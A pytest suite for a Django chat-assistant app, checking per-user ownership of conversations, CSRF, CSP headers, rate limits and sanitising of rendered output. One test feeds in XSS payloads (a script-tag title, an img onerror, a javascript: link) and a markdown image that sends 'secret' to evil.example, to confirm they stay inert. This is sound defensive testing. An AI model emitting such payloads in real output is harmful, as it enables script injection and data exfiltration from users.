"""Conversations over HTTP: pages and REST API, with ownership enforced on every verb."""

from __future__ import annotations

import pytest

from assistant.models import Conversation, Message

pytestmark = pytest.mark.django_db


@pytest.fixture
def alice_chat(user):
    conversation = Conversation.objects.create(owner=user, title="비밀 연구 / secret research")
    question = Message.objects.create(conversation=conversation, role="user", content="canary-alice-7781")
    Message.objects.create(conversation=conversation, parent=question, role="assistant", content="answer")
    return conversation


def test_owner_sees_conversation_and_messages(client, user, alice_chat):
    client.force_login(user)

    listing = client.get("/api/conversations/").json()
    messages = client.get(f"/api/conversations/{alice_chat.pk}/messages/").json()

    assert [c["title"] for c in listing["results"]] == ["비밀 연구 / secret research"]
    assert [m["content"] for m in messages["results"]] == ["canary-alice-7781", "answer"]
    assert client.get(f"/chat/{alice_chat.pk}/").status_code == 200


@pytest.mark.parametrize(
    ("method", "path_template", "body"),
    [
        ("get", "/api/conversations/{id}/", None),
        ("patch", "/api/conversations/{id}/", {"title": "stolen"}),
        ("delete", "/api/conversations/{id}/", None),
        ("get", "/api/conversations/{id}/messages/", None),
        ("get", "/chat/{id}/", None),
    ],
)
def test_other_user_gets_404_on_every_verb(client, other_user, alice_chat, method, path_template, body):
    client.force_login(other_user)

    kwargs = {"data": body, "content_type": "application/json"} if body else {}
    response = getattr(client, method)(path_template.format(id=alice_chat.pk), **kwargs)

    assert response.status_code == 404
    assert b"canary-alice-7781" not in response.content
    alice_chat.refresh_from_db()
    assert alice_chat.title == "비밀 연구 / secret research"


def test_other_user_lists_nothing_of_alice(client, other_user, alice_chat):
    client.force_login(other_user)

    listing = client.get("/api/conversations/")
    page = client.get("/chat/")

    assert listing.json()["results"] == []
    assert b"canary-alice-7781" not in page.content and "비밀 연구".encode() not in page.content


@pytest.mark.parametrize("fmt", ["md", "json"])
def test_other_user_cannot_export_alices_existing_conversation(client, other_user, alice_chat, fmt):
    client.force_login(other_user)

    response = client.get(f"/api/conversations/{alice_chat.pk}/export/", {"format": fmt})

    assert response.status_code == 404
    assert b"canary-alice-7781" not in response.content and "비밀 연구".encode() not in response.content


def test_other_user_cannot_select_a_branch_through_alices_existing_messages(client, other_user, alice_chat):
    alices_answer = alice_chat.messages.get(role="assistant")
    bobs_chat = Conversation.objects.create(owner=other_user, title="bob's")
    Message.objects.create(conversation=bobs_chat, role="user", content="bob's question")
    client.force_login(other_user)

    in_alices = client.post(
        f"/api/conversations/{alice_chat.pk}/branch/", {"message_id": alices_answer.pk}, content_type="application/json"
    )
    in_his_own = client.post(
        f"/api/conversations/{bobs_chat.pk}/branch/", {"message_id": alices_answer.pk}, content_type="application/json"
    )

    assert in_alices.status_code == 404 and in_his_own.status_code in (400, 404)
    for response in (in_alices, in_his_own):
        assert b"canary-alice-7781" not in response.content and b"answer" not in response.content
    bobs_chat.refresh_from_db()
    alice_chat.refresh_from_db()
    assert bobs_chat.current_leaf_id is None and alice_chat.current_leaf_id is None


@pytest.mark.parametrize("query", ["canary-alice-7781", "비밀 연구", "answer"])
def test_other_user_searching_for_alices_existing_text_finds_nothing(client, other_user, alice_chat, query):
    Conversation.objects.create(owner=other_user, title="bob's own")
    client.force_login(other_user)

    response = client.get("/api/conversations/", {"q": query})

    assert response.status_code == 200 and response.json()["results"] == []
    assert b"canary-alice-7781" not in response.content


def test_alice_finds_her_own_canary(client, user, alice_chat):
    client.force_login(user)

    results = client.get("/api/conversations/", {"q": "canary-alice-7781"}).json()["results"]

    assert [c["id"] for c in results] == [alice_chat.pk]  # the search works, so the empty results above mean something


def test_anonymous_is_sent_to_sign_in_and_api_refuses(client, alice_chat):
    assert client.get("/chat/").status_code == 302
    assert client.get("/chat/").headers["Location"].startswith("/accounts/login/")
    assert client.get("/api/conversations/").status_code == 403


def test_create_rename_delete(client, user, registered_model):
    client.force_login(user)

    created = client.post("/api/conversations/", {"model": "never-loaded"}, content_type="application/json")
    conversation_id = created.json()["id"]
    renamed = client.patch(
        f"/api/conversations/{conversation_id}/", {"title": "공정 분석"}, content_type="application/json"
    )
    deleted = client.delete(f"/api/conversations/{conversation_id}/")

    assert created.status_code == 201 and created.json()["model"] == "never-loaded"
    assert renamed.json()["title"] == "공정 분석"
    assert deleted.status_code == 204
    assert not Conversation.objects.filter(pk=conversation_id).exists()


def test_unknown_model_is_a_clear_error(client, user):
    client.force_login(user)

    response = client.post("/api/conversations/", {"model": "no-such-model"}, content_type="application/json")

    assert response.status_code == 400
    assert response.json()["code"] == "unknown_model"


def test_api_enforces_csrf_for_session_users(user):
    from django.test import Client

    browser = Client(enforce_csrf_checks=True)
    browser.force_login(user)

    response = browser.post("/api/conversations/", {}, content_type="application/json")

    assert response.status_code == 403
    assert "CSRF" in response.json()["detail"]


def test_oversized_json_body_is_refused(client, user, settings):
    client.force_login(user)

    response = client.post(
        "/api/conversations/", '{"title": "' + "x" * (2 * 1024 * 1024) + '"}', content_type="application/json"
    )

    assert response.status_code == 413
    assert Conversation.objects.count() == 0


def test_pages_send_a_strict_content_security_policy(client, user):
    client.force_login(user)

    response = client.get("/chat/")

    csp = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    assert "img-src 'self' data: blob:" in csp
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_titles_and_model_output_with_markup_stay_inert(client, user):
    conversation = Conversation.objects.create(owner=user, title='<script>alert("t")</script>')
    question = Message.objects.create(conversation=conversation, role="user", content="<b>typed</b>")
    Message.objects.create(
        conversation=conversation,
        parent=question,
        role="assistant",
        content="Here ![x](https://evil.example/?q=secret) and <img src=x onerror=alert(1)> [go](javascript:alert(1))",
    )
    client.force_login(user)

    page = client.get(f"/chat/{conversation.pk}/").content.decode()
    user_msg, answer = client.get(f"/api/conversations/{conversation.pk}/messages/").json()["results"]

    assert '<script>alert("t")</script>' not in page and "&lt;script&gt;" in page
    assert user_msg["content_html"] is None  # shown as typed, through textContent
    assert "<img" not in answer["content_html"] and "evil.example" not in answer["content_html"]
    assert 'href="javascript' not in answer["content_html"] and "&lt;img" in answer["content_html"]


def test_request_floods_get_429_with_retry_after(client, user, monkeypatch):
    from rest_framework.throttling import UserRateThrottle

    monkeypatch.setattr(UserRateThrottle, "THROTTLE_RATES", {"user": "5/min"})
    client.force_login(user)

    statuses = [client.get("/api/conversations/").status_code for _ in range(6)]
    limited = client.get("/api/conversations/")

    assert statuses[:5] == [200] * 5 and limited.status_code == 429
    assert int(limited.headers["Retry-After"]) > 0


def test_answers_show_where_external_links_lead(client, user, settings):
    settings.CHAT_LINK_INTERNAL_HOSTS = ["docs.example.com"]
    conversation = Conversation.objects.create(owner=user)
    Message.objects.create(
        conversation=conversation,
        role="assistant",
        content="[sources](https://evil.example/?q=secret) and [manual](https://docs.example.com/m)",
    )
    client.force_login(user)

    (answer,) = client.get(f"/api/conversations/{conversation.pk}/messages/").json()["results"]

    html = answer["content_html"]
    assert html.count('class="external-link"') == 1 and html.count('class="link-host"') == 1
    assert '<span class="link-host" title="This link leads outside this app, to the site shown.">evil.example' in html


def test_the_external_link_notice_is_translated(client, make_user):
    korean = make_user("minsu", language="ko")
    conversation = Conversation.objects.create(owner=korean)
    Message.objects.create(conversation=conversation, role="assistant", content="[출처](https://evil.example/)")
    client.force_login(korean)

    (answer,) = client.get(f"/api/conversations/{conversation.pk}/messages/").json()["results"]

    assert 'title="이 링크는 이 앱 밖, 표시된 사이트로 이동합니다."' in answer["content_html"]
